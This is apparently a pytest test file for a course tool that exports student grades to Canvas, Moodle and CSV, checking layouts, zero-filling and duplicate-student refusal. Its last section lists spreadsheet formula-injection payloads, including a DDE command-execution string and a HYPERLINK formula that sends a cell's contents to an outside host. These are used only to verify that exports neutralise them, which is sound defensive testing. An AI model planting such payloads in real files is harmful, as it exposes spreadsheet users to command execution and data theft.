"""The exports, letter by letter as the LMS documents them, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
from contextlib import closing

import pytest
from nbgrader import api

from coursekit import store
from coursekit.export import export, harmless
from coursekit.gradebook import Gradebook
from coursekit.intake import NOTHING
from coursekit.points import written
from coursekit.records import Course, CourseError, Limits, Marks, Score
from coursekit.roster import read_roster
from coursekit.store import Kept
from unrolled.exercises.sets import set_problems

PROBLEMS = set_problems("ps1")
SHORTS = [problem.short for problem in PROBLEMS]
ROSTER = """\
id,name,email,canvas_id,sis_id,sis_login,section,idnumber
minji,김민지,minji@example.org,4711,S-17,minji,A,2026001
ada,"Lovelace, Ada",ada@example.org,4712,,ada,B,2026002
bo,Bo,bo@example.org,,,bo,,
cleo,Cleo,cleo@example.org,4714,,,,2026004
"""


@pytest.fixture
def course(tmp_path):
    (tmp_path / "roster.csv").write_text(ROSTER, "utf-8")
    made = Course(
        folder=tmp_path,
        title="A course",
        roster=tmp_path / "roster.csv",
        seed="",
        gradebook=f"sqlite:///{tmp_path}/gradebook.db",
        limits=Limits(),
        exports={"canvas": {"ps1": "Problem set 1 (90210)"}, "moodle": {"ps1": "Set 1"}},
    )
    with closing(Gradebook(made.gradebook)) as book:
        book.prepare("ps1", None, read_roster(made.roster))
        put(made, book, "minji", 5.0, 8.0, 7.0)
        put(made, book, "ada", 5.0, 2.6666666666666665, 0.0)
        put(made, book, "bo", 0.0, 0.0, 0.0, message=NOTHING)
        put(made, book, "left", 1.0, 1.0, 1.0)
    return made


def put(course, book, student, *points, message="hint"):
    scores = tuple(
        Score(short, each, problem.points, message, "refused" if message == NOTHING else "part")
        for short, problem, each in zip(SHORTS, PROBLEMS, points, strict=True)
    )
    marks = Marks(student, "ps1", "digest", "000", 7, scores)
    store.save(course, Kept(marks, {}, "2026-03-01T09:30:00Z"))
    book.record("ps1", marks)


def text(course, to, **choices):
    return export(course, "ps1", to, **choices).path.read_bytes().decode("utf-8")


def table(content):
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline="")))


def test_the_sizes_of_the_set_are_those_of_the_expected_files():
    assert (SHORTS, [p.points for p in PROBLEMS]) == (["loops", "leaky", "shared"], [5, 8, 7])


def test_canvas_gets_its_own_columns_and_the_row_of_points(course):
    assert text(course, "canvas") == (
        "Student,ID,SIS User ID,SIS Login ID,Section,Problem set 1 (90210)\r\n"
        "    Points Possible,,,,,20\r\n"
        "김민지,4711,S-17,minji,A,20\r\n"
        '"Lovelace, Ada",4712,,ada,B,7.67\r\n'
        "Bo,,,bo,,\r\n"
        "Cleo,4714,,,,\r\n"
    )


def test_moodle_gets_a_column_that_identifies(course):
    assert text(course, "moodle") == (
        "Email address,Full name,Set 1\r\n"
        "minji@example.org,김민지,20\r\n"
        'ada@example.org,"Lovelace, Ada",7.67\r\n'
        "bo@example.org,Bo,\r\n"
        "cleo@example.org,Cleo,\r\n"
    )
    by_number = course._replace(exports={"moodle": {"identify": "idnumber"}})
    assert text(by_number, "moodle", zero=True) == (
        "ID number,Full name,Problem set 1\r\n"
        "2026001,김민지,20\r\n"
        '2026002,"Lovelace, Ada",7.67\r\n'
        "bo,Bo,0\r\n"
        "2026004,Cleo,0\r\n"
    )


def test_a_spreadsheet_gets_every_problem(course):
    assert text(course, "csv") == (
        "\ufeffid,name,email,loops,leaky,shared,ps1\r\n"
        "points possible,,,5,8,7,20\r\n"
        "minji,김민지,minji@example.org,5,8,7,20\r\n"
        'ada,"Lovelace, Ada",ada@example.org,5,2.67,0,7.67\r\n'
        "bo,Bo,bo@example.org,,,,\r\n"
        "cleo,Cleo,cleo@example.org,,,,\r\n"
    )


def test_who_handed_nothing_in_gets_zero_only_where_asked(course):
    for to in ("canvas", "moodle", "csv"):
        assert [row[-1] for row in table(text(course, to))][-2:] == ["", ""]
        assert [row[-1] for row in table(text(course, to, zero=True))][-2:] == ["0", "0"]
    done = export(course, "ps1", "csv")
    assert (done.students, done.missing, done.left_out) == (4, 2, ("left",))


def test_the_instructor_s_own_scores_count(course):
    with api.Gradebook(course.gradebook) as theirs:
        theirs.find_grade("leaky-check", "ps1", "ps1", "ada").manual_score = 6.5
        theirs.find_grade("shared-check", "ps1", "ps1", "bo").manual_score = 4.0
        theirs.db.commit()
    rows = {row[0]: row[3:] for row in table(text(course, "csv"))}
    assert rows["ada"] == ["5", "6.5", "0", "11.5"]
    assert rows["bo"] == ["0", "0", "4", "4"]


def test_the_same_gradebook_gives_the_same_file(course):
    for to in ("canvas", "moodle", "csv"):
        assert text(course, to) == text(course, to)
    names = sorted(path.name for path in (course.folder / "export").iterdir())
    assert names == ["ps1-canvas.csv", "ps1-moodle.csv", "ps1.csv"]


def test_without_a_roster_the_gradebook_names_the_students(course):
    alone = course._replace(roster=None)
    assert [row[0] for row in table(text(alone, "csv"))][2:] == ["ada", "bo", "left", "minji"]


@pytest.mark.parametrize(
    ("old", "new", "to", "words"),
    [
        ("bo@example.org,,,bo,,", "bo@example.org,,,,,", "canvas", "empty for bo"),
        ("4712,,ada", "4711,,ada", "canvas", "have the canvas_id '4711'"),
        ("minji,A", "ada,A", "canvas", "have the sis_login 'ada'"),
        ("ada@example.org", "", "moodle", "by their email address, which is empty for ada"),
        ("ada@example.org", "bo@example.org", "moodle", "have the email address 'bo@example.org'"),
    ],
)
def test_students_whom_the_lms_cannot_tell_apart_are_refused(course, old, new, to, words):
    assert old in ROSTER
    course.roster.write_text(ROSTER.replace(old, new), "utf-8")
    with pytest.raises(CourseError, match=words.replace("(", r"\(")):
        export(course, "ps1", to)
    assert not (course.folder / "export").exists()


def test_nothing_graded_is_said(course):
    with pytest.raises(CourseError, match="holds no scores of ps2: run unrolled-course grade ps2"):
        export(course, "ps2", "csv")


def test_a_name_cannot_pass_for_canvas_row_of_points(course):
    course.roster.write_text(ROSTER.replace("Cleo,", "the Points possible,"), "utf-8")
    names = [row[0] for row in table(text(course, "canvas"))]
    assert [name for name in names if "points possible" in name.lower()] == ["    Points Possible"]
    assert names[-1] == "cleo"


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "−1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x|@y",
    "-x",
    "+82-10-1234",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_a_formula_however_the_line_is_parted(cell):
    shown = harmless(cell)
    assert shown.isprintable() or any(c in shown for c in "\u200b\ufeff")
    for separator in (",", ";", "\t", "|", "\n"):
        for part in shown.split(separator):
            first = part.strip(' \u00a0\u3000\u200b\ufeff"')[:1]
            assert first not in set("=+-@＝＋－＠﹦−"), (separator, part)


@pytest.mark.parametrize(
    "cell",
    ["", "5", "-5", "+5", "7.67", "-7,5", "Ada", "김민지", "a=b", "O'Neil", "x-y", "a@b.org"],
)
def test_what_is_no_formula_stays_as_it_is(cell):
    assert harmless(cell) == cell


def test_a_hostile_roster_gives_a_harmless_file(course):
    rows = "id,name,email,canvas_id\n" + "".join(
        f'u{n},"{cell.replace(chr(34), "")}",=x{n}@e.org,"={n}"\n'
        for n, cell in enumerate(FORMULAS)
        if not any(c in cell for c in "\t\r\n")
    )
    course.roster.write_text(rows, "utf-8")
    for to in ("canvas", "moodle", "csv"):
        for row in table(text(course, to))[1:]:
            for cell in row:
                assert cell.strip(" \u00a0\u3000\u200b\ufeff")[:1] not in set("=+-@＝＋－＠﹦−")


@pytest.mark.parametrize(
    ("points", "shown"),
    [(0, "0"), (20, "20"), (20.0, "20"), (13.333333, "13.33"), (2.5, "2.5"), (100, "100")],
)
def test_points_are_written_plainly(points, shown):
    assert written(points) == shown
